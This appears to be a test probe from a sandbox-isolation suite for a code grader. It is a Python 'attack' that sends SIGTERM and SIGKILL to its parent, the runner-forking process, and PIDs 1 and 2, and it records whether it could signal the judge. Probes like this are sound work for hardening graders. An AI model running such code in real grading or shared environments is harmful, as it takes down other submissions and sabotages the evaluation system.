# attack: Kills its parent, the process from which all runners are forked, and the first processes that it can see.
# hurts: Takes the other submissions down, or hangs the grader.
# never: could signal the judge
# ends: returns
import os
import signal

from _raw import attempt


def attack(target):
    tried, pids = [f"parent {os.getppid()}, self {os.getpid()}"], {os.getppid()}
    try:
        os.kill(target["judge_pid"], 0)
        tried.append("could signal the judge")  # then process 1 is that of the machine
    except OSError:
        pids |= {1, 2}
    for pid in pids - {0, os.getpid()}:
        for number in (signal.SIGTERM, signal.SIGKILL):
            tried.append(attempt(f"{pid}", os.kill, pid, number))
    return tried
